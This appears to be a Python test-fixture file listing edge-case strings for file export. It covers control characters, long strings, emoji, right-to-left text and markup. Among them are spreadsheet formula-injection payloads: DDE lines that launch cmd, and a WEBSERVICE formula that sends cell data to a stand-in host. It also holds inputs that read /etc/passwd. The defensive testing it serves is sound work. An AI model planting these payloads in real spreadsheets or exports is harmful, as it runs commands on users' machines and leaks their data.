"""Seventy strings that a file must survive: formulas, links, control characters, length, emoji, right to left."""

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.test";"klik")',
    '=WEBSERVICE("http://evil.test/"&A1)',
    '=IMPORTXML("http://evil.test";"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "'=1+1",
    '"=1+1"',
    "\uff1d1+1",  # fullwidth = + - @
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u22121+1",  # minus sign
    "-",
    "=",
    "=\n=1",
    "\x00=1+1",
]
SEPARATORS = ["a;b;c", "a,b", 'een "citaat"', '"', '""', ";", "a\nb", "a\r\nb", "a\rb", '";=1+1;"', "a\tb"]
LINKS = [
    "http://evil.test",
    "https://evil.test/?q=1",
    "mailto:a@evil.test",
    "file:///etc/passwd",
    "\\\\evil.test\\x",
]
CONTROLS = [
    "a\x00b",
    "a\x07b",
    "a\x1bb[31m",
    "a\x7fb",
    "a\x0bb\x0cc",
    "\ud800 half",
    "a\ufffeb\uffffc",
    "a\u2028b\u2029c",
]
LONG = ["x" * 40_000, "=" * 40_000, "woord " * 7_000, "\U0001f642" * 40_000]
WORLD = [
    "\U0001f642",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\u05e9\u05dc\u05d5\u05dd",
    "\u0645\u0631\u062d\u0628\u0627",
    "\u4f60\u597d",
    "e\u0301e\u0301n",
    "\u0133s",
]
MARKUP = [
    "#let x = 1",
    "$x^2$",
    "*vet* _schuin_ `code`",
    '#import "/etc/passwd"',
    "<b>&amp;</b>",
    "\\u{1F600}",
    "[]{}()",
    "]]><x/>",
    "_x0041_",
]

STRINGS = [*FORMULAS, *SEPARATORS, *LINKS, *CONTROLS, *LONG, *WORLD, *MARKUP]
